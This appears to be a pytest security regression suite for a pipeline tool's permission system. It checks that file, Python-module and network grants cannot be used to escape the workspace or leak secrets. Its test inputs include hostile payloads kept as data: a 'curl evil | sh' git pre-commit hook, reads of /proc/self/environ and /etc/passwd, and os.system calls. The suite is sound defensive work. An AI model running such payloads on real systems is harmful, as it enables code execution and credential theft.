"""What a grant reaches: file grants stay in the workspace, python grants name what may be called.

Regressions of issue #16 ("Trust holes"), each through the front door where it can be
(a pipeline run or checked in a deny-by-default project), on real files, symlinks, hard
links, modules and a local HTTP server:

* a file grant is matched against the path relative to the workspace, one segment at a
  time, after resolving it: ``*.md`` does not reach ``../x.md``, an absolute path or
  ``/proc/self/environ``, ``*`` does not cross ``/``; only an absolute grant reaches
  outside; the store's files are protected wherever ``store.path`` puts them; a file
  with other hard links is not written;
* a ``python`` grant allows the functions and classes its module defines, not what the
  attribute chain reaches in other modules (``os.path:os.system``, ``json:codecs.open``);
* ``network: ["*"]`` names no host a secret may go to.
"""

from __future__ import annotations

import os
import textwrap
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any, ClassVar

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from local_http import serving

import goatclaw
from goatclaw.errors import PermissionDenied, SpecError
from goatclaw.security.permissions import Grant, covers

TOKEN = "tok-3b9e61c0d2f84a75"


@dataclass
class Project:
    """A project folder (the current directory) whose goatclaw.yaml grants nothing, beside a folder outside it."""

    root: Path
    outside: Path
    write: Callable[..., Path] = field(repr=False)

    def run(self, text: str, **options: Any) -> goatclaw.RunResult:
        return goatclaw.run(self.write(text), **options)

    def refused(self, text: str, *parts: str) -> SpecError:
        """The file is refused before anything runs, at file:line:col, with every part in the message."""
        with pytest.raises(SpecError) as info:
            goatclaw.run(self.write(text))
        for part in parts:
            assert part in str(info.value), str(info.value)
        assert info.value.problems[0].location is not None
        return info.value


@pytest.fixture
def locked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    root, outside = tmp_path / "proj", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    (outside / "secret.md").write_text("outside the workspace")
    (tmp_path / "secret.md").write_text("beside the workspace")
    (root / "goatclaw.yaml").write_text("version: 1\nstore:\n  path: .goatclaw/goatclaw.db\n")
    monkeypatch.chdir(root)
    monkeypatch.delenv("GOATCLAW_STORE", raising=False)
    monkeypatch.setenv("TOKEN", TOKEN)

    def write(text: str, name: str = "p.yaml") -> Path:
        path = root / name
        path.write_text(textwrap.dedent(text).lstrip())
        return path

    return Project(root, outside, write)


def failed(result: goatclaw.RunResult, task: str, error_class: str, *parts: str) -> str:
    res = result.tasks[task]
    assert res.status.value == "failed", (res.status, res.output)
    assert res.error_class == error_class, res.error
    for part in parts:
        assert part in (res.error or ""), res.error
    return res.error or ""


# -- file grants: the property ---------------------------------------------------------------

#: Segments a grant is drawn from: names that exist below, globs, and the ones that climb.
GRANT_SEGMENTS = ["*", "**", "*.md", "?", "s*", "*.json", "secret.md", "sub", "deep", ".*", "..", "[a-z]*"]
#: Targets: inside, climbing out, absolute, through symlinks and hard links, the process's environment.
TARGET_NAMES = ["a.md", "sub/b.md", "sub/deep/c.json", "../secret.md", "../outside/secret.md", "sub/../../secret.md",
                "link-out/secret.md", "file-out.md", "hard.md", "sub/link-up/secret.md", "/proc/self/environ",
                "/etc/passwd", "//proc/self/environ", "./././../secret.md", "sub/*", "*"]


@pytest.fixture(scope="module")
def tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace with files, symlinks out of it and a hard link to a file outside."""
    top = tmp_path_factory.mktemp("tree")
    ws, out = top / "ws", top / "outside"
    (ws / "sub" / "deep").mkdir(parents=True)
    out.mkdir()
    for name in ("a.md", "sub/b.md", "sub/deep/c.json"):
        (ws / name).write_text(name)
    (out / "secret.md").write_text("x")
    (top / "secret.md").write_text("x")
    (ws / "link-out").symlink_to(out)
    (ws / "file-out.md").symlink_to(top / "secret.md")
    (ws / "sub" / "link-up").symlink_to(top)
    os.link(out / "secret.md", ws / "hard.md")
    return ws


relative_grants = st.lists(st.lists(st.sampled_from(GRANT_SEGMENTS), min_size=1, max_size=4).map("/".join),
                           min_size=1, max_size=4)
targets = st.one_of(st.sampled_from(TARGET_NAMES),
                    st.lists(st.sampled_from(["..", ".", "sub", "deep", "link-out", "a.md", "secret.md"]),
                             min_size=1, max_size=5).map("/".join))


@settings(max_examples=300, deadline=None)
@given(grants=relative_grants, target=targets)
def test_a_relative_grant_never_reaches_outside_the_workspace(tree: Path, grants: list[str], target: str) -> None:
    """Whatever the relative grants and the target, what they allow resolves inside the workspace."""
    for read in (Grant(files_read=tuple(grants), workspace=str(tree)),
                 Grant(files_write=tuple(grants), workspace=str(tree))):
        check = read.check_read if read.files_read else read.check_write
        try:
            real = check(target)
        except PermissionDenied:
            continue
        assert real.is_relative_to(tree.resolve()), (grants, target, real)
        assert real == (tree / target).resolve()


@settings(max_examples=100, deadline=None)
@given(target=targets)
def test_a_grant_of_everything_inside_reaches_every_path_inside(tree: Path, target: str) -> None:
    """The property above is not vacuous: ``**`` reaches each target that resolves inside (and nothing else)."""
    real = (tree / target).resolve()
    inside = real.is_relative_to(tree.resolve()) and real.name != "hard.md"
    grant = Grant(files_write=("**",), workspace=str(tree))
    try:
        grant.check_write(target)
        allowed = True
    except PermissionDenied:
        allowed = False
    assert allowed is inside, (target, real)


@pytest.mark.parametrize(("grant", "path", "ok"), [
    ("*.md", "a.md", True),
    ("*.md", "sub/b.md", False),  # * stays in one folder
    ("**/*.md", "sub/b.md", True),
    ("**/*.md", "a.md", True),  # ** is any number of folders, none included
    ("sub/*", "sub/deep/c.json", True),  # a matched folder grants what is inside it
    ("*", "sub/deep/c.json", True),
    ("sub/*.json", "sub/deep/c.json", False),
    ("**/*.json", "sub/deep/c.json", True),
    ("*.md", "../secret.md", False),
    ("*", "../secret.md", False),
    ("**", "/proc/self/environ", False),
    ("*", "link-out/secret.md", False),  # a symlink out: its real path is outside
    ("*.md", "file-out.md", False),
    ("sub/", "sub/link-up/secret.md", False),
])
def test_globs_match_one_folder_level_at_a_time(tree: Path, grant: str, path: str, ok: bool) -> None:
    assert Grant(files_read=(grant,), workspace=str(tree)).may_read(path) is ok


def test_only_an_absolute_grant_reaches_outside(tree: Path) -> None:
    outside = (tree.parent / "outside").resolve()
    assert Grant(files_read=(f"{outside}/",), workspace=str(tree)).may_read("../outside/secret.md")
    assert Grant(files_read=(f"{outside}/*.md",), workspace=str(tree)).may_read("link-out/secret.md")
    assert not Grant(files_read=(f"{outside}/*.json",), workspace=str(tree)).may_read("link-out/secret.md")
    assert not Grant(files_read=("/proc/*/status",), workspace=str(tree)).may_read("/proc/self/environ")
    assert Grant(files_read=("/proc/*/environ",), workspace=str(tree)).may_read("/proc/self/environ")  # as asked
    with pytest.raises(PermissionDenied, match="outside the workspace, which only a grant of an absolute folder"):
        Grant(files_read=("*.md",), workspace=str(tree)).check_read("../secret.md")


# -- file grants: through a run --------------------------------------------------------------


@pytest.mark.parametrize("target", ["../secret.md", "{outside}/secret.md", "/proc/self/environ"])
def test_a_glob_grant_does_not_read_outside_the_workspace(locked: Project, target: str) -> None:
    target = target.format(outside=locked.outside)
    result = locked.run(f"""
        version: 1
        permissions: {{files: {{read: ["*.md", "*"]}}}}
        tasks:
          x: {{uses: file.read, with: {{path: "{target}"}}}}
        """)
    error = failed(result, "x", "permission_denied", "is not in permissions.files.read [*.md, *]")
    assert "outside the workspace" in error


def test_a_glob_grant_does_not_write_outside_the_workspace(locked: Project) -> None:
    result = locked.run("""
        version: 1
        permissions: {files: {write: ["**/*.json"]}}
        tasks:
          x: {uses: file.write, with: {path: ../escape.json, content: {a: 1}, format: json}}
          y: {uses: file.write, with: {path: out/ok.json, content: {a: 1}, format: json}}
        """)
    failed(result, "x", "permission_denied", "is not in permissions.files.write [**/*.json]")
    assert not (locked.root.parent / "escape.json").exists()
    assert result.tasks["y"].status.value == "succeeded" and (locked.root / "out" / "ok.json").exists()


@pytest.mark.parametrize("root", ["../outside/", "../*.md", "data/../../outside/*.md"])
def test_a_relative_grant_outside_the_workspace_is_refused_at_validate(locked: Project, root: str) -> None:
    error = locked.refused(f"""
        version: 1
        permissions: {{files: {{read: ["{root}"]}}}}
        tasks:
          x: {{uses: echo, with: {{value: 1}}}}
        """, "permissions.files.read[0]")
    assert "name the folder by its absolute path" in str(error) or "holds '..'" in str(error)


def test_a_symlinked_folder_granted_by_a_relative_path_does_not_carry_reads_out(locked: Project) -> None:
    (locked.root / "data").symlink_to(locked.outside)
    locked.refused("""
        version: 1
        permissions: {files: {read: [data/]}}
        tasks:
          x: {uses: file.read, with: {path: data/secret.md}}
        """, "'data/' is outside the workspace (really", "permissions.files.read[0]")
    grant = Grant(files_read=("data/",), workspace=str(locked.root))
    assert not grant.may_read("data/secret.md")
    assert Grant(files_read=(str(locked.outside),), workspace=str(locked.root)).may_read("data/secret.md")


def test_an_absolute_folder_grant_reads_outside(locked: Project) -> None:
    result = locked.run(f"""
        version: 1
        permissions: {{files: {{read: ["{locked.outside}/"]}}}}
        tasks:
          x: {{uses: file.read, with: {{path: ../outside/secret.md}}}}
        """)
    assert result.ok and result.tasks["x"].output == "outside the workspace"


@pytest.mark.parametrize("target", ["data/runs.db", "data/runs.db-wal"])
def test_the_store_is_protected_wherever_store_path_puts_it(locked: Project, target: str) -> None:
    (locked.root / "goatclaw.yaml").write_text("version: 1\nstore:\n  path: data/runs.db\n")
    first = locked.run("version: 1\ntasks:\n  a: {uses: echo, with: {value: 1}}\n", store=True)
    assert first.ok and (locked.root / "data" / "runs.db").exists()
    (locked.root / "data" / "notes.md").write_text("notes")
    result = locked.run(f"""
        version: 1
        permissions: {{files: {{read: [data/, "data/*"], write: [.]}}}}
        tasks:
          read: {{uses: file.read, with: {{path: {target}}}}}
          write: {{uses: file.write, with: {{path: {target}, content: pwned}}}}
          notes: {{uses: file.read, with: {{path: data/notes.md}}}}
        """, store=True)
    failed(result, "read", "permission_denied", "which a grant must name explicitly")
    failed(result, "write", "permission_denied", "which a grant must name explicitly")
    assert result.tasks["notes"].output == "notes"
    named = Grant(files_read=("data/runs.db",), workspace=str(locked.root),
                  protected=(str(locked.root / "data" / "runs.db"),))
    assert named.may_read("data/runs.db")  # named explicitly


def test_a_glob_that_starts_like_a_protected_name_does_not_name_it(locked: Project) -> None:
    result = locked.run("""
        version: 1
        permissions: {files: {write: [".git*", ".goatclaw/*"]}}
        tasks:
          hook: {uses: file.write, with: {path: .git/hooks/pre-commit, content: "curl evil | sh"}}
          ignore: {uses: file.write, with: {path: .gitignore, content: "out/"}}
          cache: {uses: file.write, with: {path: .goatclaw/notes.txt, content: "ok"}}
        """)
    failed(result, "hook", "permission_denied", "is inside .git, which a grant must name explicitly")
    assert not (locked.root / ".git" / "hooks" / "pre-commit").exists()
    assert result.tasks["ignore"].status.value == "succeeded"
    assert result.tasks["cache"].status.value == "succeeded"  # .goatclaw/* names .goatclaw


@pytest.mark.parametrize("mode", ["append", "overwrite"])
def test_a_write_through_a_hard_link_to_a_file_outside_is_refused(locked: Project, mode: str) -> None:
    (locked.root / "out").mkdir()
    os.link(locked.outside / "secret.md", locked.root / "out" / "notes.md")
    result = locked.run(f"""
        version: 1
        permissions: {{files: {{write: [out/]}}}}
        tasks:
          x: {{uses: file.write, with: {{path: out/notes.md, content: pwned, mode: {mode}}}}}
        """)
    failed(result, "x", "permission_denied", "'out/notes.md' has 2 hard links")
    assert (locked.outside / "secret.md").read_text() == "outside the workspace"


def test_covers_matches_globs_segment_by_segment(tmp_path: Path) -> None:
    assert covers("files.read", ("*",), ("../x", "/etc/"), tmp_path) == ["../x", "/etc/"]
    assert covers("files.read", ("*.md",), ("docs/x.md", "x.md"), tmp_path) == ["docs/x.md"]
    assert covers("files.read", ("**/*.md",), ("docs/x.md", "a/*.md", "*.md"), tmp_path) == []
    assert covers("files.read", ("data/*",), ("data/x/*.json", "data/*.json", "**/*.json"), tmp_path) == ["**/*.json"]
    assert covers("files.write", ("/srv/data/",), ("/srv/data/*.csv", "/srv/*"), tmp_path) == ["/srv/*"]


def test_a_task_cannot_widen_a_glob_grant_with_dotdot(locked: Project) -> None:
    locked.refused("""
        version: 1
        permissions: {files: {read: ["*"]}}
        tasks:
          x:
            uses: file.read
            permissions: {files: {read: ["../secret.md"]}}
            with: {path: ../secret.md}
        """, "tasks.x.permissions.files.read: asks for ../secret.md")


# -- python grants ---------------------------------------------------------------------------


@pytest.mark.parametrize(("grant", "function", "args", "why"), [
    ("os.path", "os.path:os.system", ["touch pwned"], "follows 'os', which is the module os"),
    ("json", "json:codecs.open", ["pwned", "w"], "follows 'codecs', which is the module codecs"),
    ("os", "os:system", ["touch pwned"], "which is defined in posix, not in os"),
    ("os", "os:environ.get", ["TOKEN"], "follows 'environ', which is a _Environ object"),
])
def test_a_python_grant_does_not_reach_into_other_modules(locked: Project, grant: str, function: str,
                                                         args: list[str], why: str) -> None:
    result = locked.run(f"""
        version: 1
        vars: {{f: "{function}"}}
        permissions: {{python: [{grant}]}}
        tasks:
          x: {{uses: python, with: {{function: "${{{{ vars.f }}}}", args: {args!r}}}}}
        """)
    failed(result, "x", "permission_denied", why, f"permissions.python [{grant}]")
    assert not (locked.root / "pwned").exists()


@pytest.mark.parametrize(("grant", "function", "why"), [
    ("os.path", "os.path:os.system", "'os', which is the module os"),
    ("json", "json:codecs.open", "'codecs', which is the module codecs"),
    ("steps", "steps:system", "names 'system', which is imported from os, not defined in steps"),
    ("steps", "steps:helper", "names 'helper', which is imported from helpers, not defined in steps"),
])
def test_a_call_out_of_the_granted_module_is_refused_at_validate(locked: Project, grant: str, function: str,
                                                                 why: str) -> None:
    (locked.root / "steps.py").write_text("from os import system\nfrom helpers import helper\n"
                                          "open('imported', 'w').close()\n\ndef ok():\n    return 1\n")
    (locked.root / "helpers.py").write_text("def helper():\n    return 2\n")
    error = locked.refused(f"""
        version: 1
        permissions: {{python: [{grant}]}}
        tasks:
          x: {{uses: python, with: {{function: "{function}", args: ["touch pwned"]}}}}
        """, why, "tasks.x.with.function")
    assert error.problems[0].location.line == 4  # type: ignore[union-attr]
    assert not (locked.root / "imported").exists()  # validate read the source; it ran none of it
    assert not (locked.root / "pwned").exists()


def test_what_the_granted_module_defines_can_be_called(locked: Project) -> None:
    (locked.root / "gc_grant_steps.py").write_text(textwrap.dedent("""
        from os import system

        class Box:
            @staticmethod
            def pair(a, b):
                return [a, b]

        def twice(x):
            return 2 * x
        """))
    result = locked.run("""
        version: 1
        permissions: {python: [gc_grant_steps, json, os.path, "builtins:str.upper"]}
        tasks:
          a: {uses: python, with: {function: "gc_grant_steps:twice", args: [21]}}
          b: {uses: python, with: {function: "gc_grant_steps:Box.pair", args: [1, 2]}}
          c: {uses: python, with: {function: "json:dumps", args: [[1]]}}
          d: {uses: python, with: {function: "os.path:join", args: [a, b]}}
          e: {uses: python, with: {function: "builtins:str.upper", args: [hi]}}
          f: {uses: python, with: {function: "json.decoder:JSONDecoder", args: []}}
        """)
    assert [result.tasks[t].status.value for t in "abcde"] == ["succeeded"] * 5, result.tasks
    assert [result.tasks[t].output for t in "abcde"] == [42, [1, 2], "[1]", "a/b", "HI"]
    assert "not JSON" in (result.tasks["f"].error or "")  # allowed: a class of json; its instance is not JSON
    refused = locked.run("""
        version: 1
        vars: {f: "gc_grant_steps:system"}
        permissions: {python: [gc_grant_steps]}
        tasks:
          x: {uses: python, with: {function: "${{ vars.f }}", args: ["touch pwned"]}}
        """)
    failed(refused, "x", "permission_denied", "which is defined in posix, not in gc_grant_steps")
    assert not (locked.root / "pwned").exists()


# -- network: * names no host ------------------------------------------------------------------


class _Web(BaseHTTPRequestHandler):
    seen: ClassVar[list[str]] = []

    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        _Web.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")


@pytest.fixture
def web() -> Iterator[str]:
    _Web.seen = []
    with serving(_Web) as url:
        yield url


@pytest.mark.parametrize("pattern", ["*", "*:{port}"])
def test_a_star_network_grant_lists_no_host_for_secrets(locked: Project, web: str, pattern: str) -> None:
    pattern = pattern.format(port=web.rsplit(":", 1)[1])
    result = locked.run(f"""
        version: 1
        secrets: [TOKEN]
        permissions: {{network: ["{pattern}"]}}
        tasks:
          secret:
            uses: http
            with: {{url: "{web}/secret", headers: {{X-Api-Key: "${{{{ secrets.TOKEN }}}}"}}}}
          plain: {{uses: http, with: {{url: "{web}/plain"}}}}
        """)
    message = failed(result, "secret", "permission_denied", "secret TOKEN would be sent to 127.0.0.1",
                     "which permissions.network does not list")
    assert TOKEN not in message
    assert result.tasks["plain"].status.value == "succeeded"  # * still allows the host, without secrets
    assert _Web.seen == ["/plain"]


def test_a_host_listed_by_name_may_get_a_secret(locked: Project, web: str) -> None:
    result = locked.run(f"""
        version: 1
        secrets: [TOKEN]
        permissions: {{network: ["*", "127.0.0.1"]}}
        tasks:
          secret:
            uses: http
            with: {{url: "{web}/secret", headers: {{X-Api-Key: "${{{{ secrets.TOKEN }}}}"}}}}
        """)
    assert result.ok, result.tasks["secret"].error
    assert _Web.seen == ["/secret"]
